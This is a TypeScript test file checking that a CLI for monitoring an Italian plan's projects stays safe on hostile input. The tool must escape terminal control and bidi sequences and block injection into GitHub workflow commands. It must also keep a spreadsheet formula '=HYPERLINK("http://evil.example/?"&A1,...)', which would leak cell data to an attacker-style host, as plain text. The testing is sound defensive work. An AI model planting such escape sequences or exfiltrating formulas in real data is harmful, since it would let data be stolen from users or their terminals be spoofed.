import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { runBinary, repoRoot, type CliResult } from '../helpers/run-cli.ts';
import { tempPlan } from '../helpers/temp-plan.ts';
import { snapshotTree } from '../helpers/tree-snapshot.ts';
import { malformedXmlParts } from '../helpers/xlsx-xml.ts';

const hostile = (name: string) => path.join(repoRoot, 'test/fixtures/hostile', name);

/** A control character, DEL, a C1 control, a line or paragraph separator or a bidi override: none may reach a reader raw (tab and LF are layout). */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** Run the built CLI on a copy of the base plan with `fixture` laid over it; the plan folder must come out byte for byte as it went in. */
async function runOnHostilePlan(fixture: string, argv: readonly string[]): Promise<CliResult & { root: string }> {
  const root = tempPlan(hostile(fixture));
  const before = snapshotTree(root);
  // Wide enough that no escaped sequence asserted below is wrapped.
  const result = await runBinary([...argv, '--plan', root], { env: { COLUMNS: '200' } });
  expect(snapshotTree(root)).toEqual(before);
  return { ...result, root };
}

describe('terminal output shows control characters and bidi overrides from data escaped', () => {
  it.each([
    [['show', 'escape-hub'], 'escape-hub  Hub \\x1b]0;pwned\\x07\\x1b[31mrosso\\x1b[0m'],
    [['show', 'M1'], 'M1  Alpha \\u202eatled\\u202c\nPNRR     M1\nThemes   tema\\x9b31m\n\nMissione\\x1b[2J di prova.\nSeconda riga.'],
    [['show', 'M1.1'], 'M1.1  Primo\\x1b[8m obiettivo\\x08\\x08'],
    [['list', 'projects'], '\\x1b]0;pwned\\x07\\x1b[31mrosso\\x1b[0m'],
    [['list', 'objectives'], 'Primo\\x1b[8m obiettivo\\x08\\x08'],
    [['list', 'missions'], 'Alpha \\u202eatled\\u202c'],
    [['why', 'escape-hub', '--as-of', '2026-11-22'], 'escape-hub: Hub \\x1b]0;pwned\\x07\\x1b[31mrosso\\x1b[0m'],
    [['why', 'escape-hub/imprese', '--as-of', '2026-11-22'], 'escape-hub / imprese: Imprese \\x9b2J\\x08\nquantitative, n\\u2066., should increase'],
    [['why', 'M1.1', '--as-of', '2026-11-22'], 'M1.1: Primo\\x1b[8m obiettivo\\x08\\x08'],
    [['why', 'M1', '--as-of', '2026-11-22'], 'M1: Alpha \\u202eatled\\u202c'],
    [['coverage', '--as-of', '2026-11-22'], 'Alpha \\u202eatled\\u202c'],
    [['progress', '--as-of', '2026-11-22'], 'Primo\\x1b[8m obiettivo\\x08\\x08'],
  ])('psttm %j', async (argv, expected) => {
    const { code, stdout, stderr } = await runOnHostilePlan('terminal-escapes', argv);
    expect(code).toBe(0);
    expect(stderr).toBe('');
    expect(stdout).toContain(expected);
    expect(stdout).not.toMatch(RAW_CONTROL);
  });

  it('keeps the table columns aligned around escaped text', async () => {
    const { stdout } = await runOnHostilePlan('terminal-escapes', ['list', 'projects']);
    const widths = new Set(stdout.trimEnd().split('\n').map((line) => line.length));
    expect(widths.size).toBe(1);
  });

  it('shows project text escaped line by line, keeping the summary on its own line', async () => {
    const { stdout } = await runOnHostilePlan('terminal-escapes', ['show', 'escape-hub']);
    expect(stdout).toContain('Lead      Ente \\u202eonalim\\u202c (citta_metropolitana)\n');
    expect(stdout).toContain('\nRiga uno\\x0driga due\\u2028fine\n');
    expect(stdout).toContain('  Imprese \\x9b2J\\x08: 5 n\\u2066. (2026-06-30); target 10 by 2027-12-31\n');
    expect(stdout).toContain('  [doc] Fonte \\x1b[1mgrassetto\n');
  });

  it.each([
    [['show', 'escape-hub', '--json'], (json: { title: string }) => json.title, 'Hub \u001b]0;pwned\u0007\u001b[31mrosso\u001b[0m'],
    [['list', 'missions', '--json'], (json: { title: string; themes: string[] }[]) => [json[0]!.title, json[0]!.themes[0]], ['Alpha \u202eatled\u202c', 'tema\u009b31m']],
    [['list', 'projects', '--json'], (json: { lead: { name: string } }[]) => json.find((project) => project.lead.name.startsWith('Ente'))!.lead.name, 'Ente \u202eonalim\u202c'],
  ] as const)('--json escapes C1 controls, U+2028/U+2029 and bidi overrides as \\uXXXX and keeps the data: psttm %j', async (argv, pick, expected) => {
    const { code, stdout } = await runOnHostilePlan('terminal-escapes', argv);
    expect(code).toBe(0);
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(pick(JSON.parse(stdout))).toEqual(expected);
  });

  it('--json of show escapes the line separator of the summary', async () => {
    const { stdout } = await runOnHostilePlan('terminal-escapes', ['show', 'escape-hub', '--json']);
    expect(stdout).toContain('"summary": "Riga uno\\rriga due\\u2028fine"');
  });
});

describe('findings quoting hostile data are escaped in every format', () => {
  it('stylish', async () => {
    const { code, stdout } = await runOnHostilePlan('finding-escapes', ['validate']);
    expect(code).toBe(1);
    expect(stdout).toContain('status: "done\\u001b]0;pwned\\u0007\\x9b2J\\u202e" is not allowed; use one of:');
    expect(stdout).not.toMatch(RAW_CONTROL);
  });

  it('github: the data cannot end the workflow command or restyle the log', async () => {
    const { code, stdout } = await runOnHostilePlan('finding-escapes', ['validate', '--format', 'github']);
    expect(code).toBe(1);
    expect(stdout).toMatch(/^::error file=.*escape-status\.yaml,line=4,col=9,title=psttm SCHEMA_INVALID_VALUE::status: "done\\u001b]0;pwned\\u0007\\x9b2J\\u202e" is not allowed/m);
    expect(stdout).not.toMatch(RAW_CONTROL);
  });

  it('json keeps the message exact, with \\uXXXX escapes', async () => {
    const { code, stdout } = await runOnHostilePlan('finding-escapes', ['validate', '--json']);
    expect(code).toBe(1);
    expect(stdout).not.toMatch(RAW_CONTROL);
    const { findings } = JSON.parse(stdout) as { findings: { code: string; message: string }[] };
    expect(findings.find((finding) => finding.code === 'SCHEMA_INVALID_VALUE')!.message).toMatch(/^status: "done\\u001b]0;pwned\\u0007\u009b2J\u202e" is not allowed/);
  });

  it('an error line that quotes the command line shows it escaped', async () => {
    const { code, stdout, stderr } = await runOnHostilePlan('terminal-escapes', ['show', 'x\u001b[2J\u009b1m']);
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toBe('psttm: x\\x1b[2J\\x9b1m: no mission, objective or project with that id\n');
  });

  it('a usage error from the option parser shows the argument escaped, on one line', async () => {
    const { code, stderr } = await runOnHostilePlan('terminal-escapes', ['report', '--lang', 'x\n\u001b[2J']);
    expect(code).toBe(2);
    expect(stderr).toBe("psttm: option '--lang <language>' argument 'x\\x0a\\x1b[2J' is invalid. Allowed choices are it, en. (see psttm --help)\n");
  });
});

const REPORT_FILES = ['.psttm-reports.json', 'monitoraggio-2026-11-22.html', 'monitoraggio-2026-11-22.xlsx'];

/**
 * `psttm report` in a copy of the base plan with `fixture` laid over it (after `prepare`, if given):
 * the plan folder must come out unchanged, and nothing but the listed files may appear beside it.
 */
async function reportOnHostilePlan(fixture: string, extraArgs: readonly string[] = [], prepare?: (root: string) => void) {
  const root = tempPlan(hostile(fixture));
  prepare?.(root);
  const plan = path.join(root, 'plan');
  const before = snapshotTree(plan);
  const result = await runBinary(['report', '--as-of', '2026-11-22', '--json', ...extraArgs], { cwd: root });
  expect(snapshotTree(plan)).toEqual(before);
  const reports = path.join(root, 'reports');
  const written = readdirSync(root).includes('reports') ? readdirSync(reports).sort() : [];
  const workbook = async () => {
    const buffer = readFileSync(path.join(reports, 'monitoraggio-2026-11-22.xlsx'));
    expect(await malformedXmlParts(buffer)).toEqual([]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(buffer as unknown as ArrayBuffer);
    return book;
  };
  const html = () => readFileSync(path.join(reports, 'monitoraggio-2026-11-22.html'), 'utf8');
  return { ...result, root, written, topLevel: readdirSync(root).sort(), workbook, html };
}

describe('psttm report on hostile data writes a workbook Excel and LibreOffice can open', () => {
  it('characters XML 1.0 forbids in a title become U+FFFD: every XML part is well-formed and exceljs reads it back', async () => {
    const { code, stderr, written, topLevel, workbook } = await reportOnHostilePlan('xml-forbidden');
    expect(code).toBe(0);
    expect(stderr).toBe('psttm: using the plan in plan/\n');
    expect(written).toEqual(REPORT_FILES);
    expect(topLevel).toEqual(['plan', 'reports']);
    const projects = (await workbook()).getWorksheet('Progetti')!;
    const row = projects.getColumn(1).values.indexOf('xml-title');
    expect(projects.getRow(row).getCell(2).value).toBe('Titolo\ufffda\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg\ufffdh');
    expect(projects.getRow(row).getCell(4).value).toBe('Ente\ufffd');
  });

  it('a 40,000-character title is cut to 32,767 characters ending with a note; the HTML keeps it whole', async () => {
    const title = 'Titolo lunghissimo '.repeat(2106).slice(0, 40_000);
    const { code, written, workbook, html } = await reportOnHostilePlan('xml-forbidden', [], (root) => {
      const file = path.join(root, 'plan/projects/xml-title.yaml');
      writeFileSync(file, readFileSync(file, 'utf8').replace(/^title: .*$/m, `title: "${title}"`));
    });
    expect(code).toBe(0);
    expect(written).toEqual(REPORT_FILES);
    const projects = (await workbook()).getWorksheet('Progetti')!;
    const cell = projects.getRow(projects.getColumn(1).values.indexOf('xml-title')).getCell(2).value as string;
    const note = ' [\u2026] (testo troncato: una cella di Excel contiene al massimo 32.767 caratteri)';
    expect(cell).toHaveLength(32_767);
    expect(cell).toBe(title.slice(0, 32_767 - note.length) + note);
    expect(html()).toContain(title);
  });

  it('an actor-column label from plan.yaml that starts with = is a header in the Text format, not a formula', async () => {
    const { code, written, workbook } = await reportOnHostilePlan('formula-label');
    expect(code).toBe(0);
    expect(written).toEqual(REPORT_FILES);
    const book = await workbook();
    for (const [sheet, address] of [['Obiettivi', 'E1'], ['Copertura', 'D1']] as const) {
      const header = book.getWorksheet(sheet)!.getCell(address);
      expect(header.value).toBe('=HYPERLINK("http://evil.example/?"&A1,"Comuni")');
      expect(header.formula).toBeUndefined();
      expect(header.numFmt).toBe('@');
    }
  });

  it('a target 5e-324 above its baseline is a data gap (overflow) in the workbook and the HTML, never NaN or Infinity', async () => {
    const { code, written, workbook, html } = await reportOnHostilePlan('subnormal-target');
    expect(code).toBe(0);
    expect(written).toEqual(REPORT_FILES);
    const quality = (await workbook()).getWorksheet('Qualità dati')!;
    const messages = quality.getColumn(6).values.filter((value): value is string => typeof value === 'string');
    expect(messages).toContain('Indicatore subnormal/imprese (Imprese): cifre fuori scala: il calcolo non dà un numero finito');
    const text = html();
    expect(text).toContain('cifre fuori scala: il calcolo non dà un numero finito');
    expect(text).not.toMatch(/NaN|Infinity|∞/);
  });

  it('funding of 1e308 is a schema finding: the report stops and writes nothing', async () => {
    const { code, stdout, stderr, written, topLevel } = await reportOnHostilePlan('huge-amount');
    expect(code).toBe(1);
    expect(stdout).toBe('');
    expect(stderr).toBe('psttm: using the plan in plan/\npsttm: the plan has 1 error (first: plan/projects/huge.yaml:10:30 SCHEMA_INVALID_VALUE); run psttm validate to see them all\n');
    expect(written).toEqual([]);
    expect(topLevel).toEqual(['plan']);
  });

  it('a template that calls log is refused before anything is written, and nothing reaches the --json output', async () => {
    const templates = hostile('log-template');
    const { code, stdout, stderr, topLevel } = await reportOnHostilePlan('subnormal-target', ['--templates', templates]);
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toBe(`psttm: using the plan in plan/\npsttm: ${path.join(templates, 'report.hbs')}:5:3: template "report" calls the log helper, which writes data outside the report; remove it\n`);
    expect(topLevel).toEqual(['plan']);
  });
});

describe('extreme floats in the terminal and JSON', () => {
  it('why shows the overflow with its numbers', async () => {
    const { code, stdout } = await runOnHostilePlan('subnormal-target', ['why', 'subnormal/imprese', '--as-of', '2026-11-22']);
    expect(code).toBe(0);
    expect(stdout).toBe(
      [
        'subnormal / imprese: Imprese',
        'quantitative, imprese, should increase; as of 2026-11-22',
        '  baseline  0 on 2025-01-01',
        '  target    5E-324 on 2027-12-31',
        '  latest    1 on 2026-06-30 [source: doc]',
        'progress = (latest − baseline) / (target − baseline) = (1 − 0) / (5E-324 − 0): not a finite number',
        'Status: no data: its figures are out of range: the arithmetic gives no finite number.',
        '',
      ].join('\n'),
    );
  });

  it('progress --json gives null and the gap overflow, not a silent null', async () => {
    const { code, stdout } = await runOnHostilePlan('subnormal-target', ['progress', '--json', '--as-of', '2026-11-22']);
    expect(code).toBe(0);
    const json = JSON.parse(stdout) as { projects: { id: string; indicators: { progress: unknown; expected: unknown; gap: string }[] }[] };
    expect(json.projects.find((project) => project.id === 'subnormal')!.indicators[0]).toMatchObject({ progress: null, expected: null, status: 'no_data', gap: 'overflow' });
  });

  it('validate names 1e308 as out of range', async () => {
    const { code, stdout } = await runOnHostilePlan('huge-amount', ['validate']);
    expect(code).toBe(1);
    expect(stdout).toContain('10:30  error  funding[0].amount: 1e+308: must be <= 1000000000000000');
  });
});
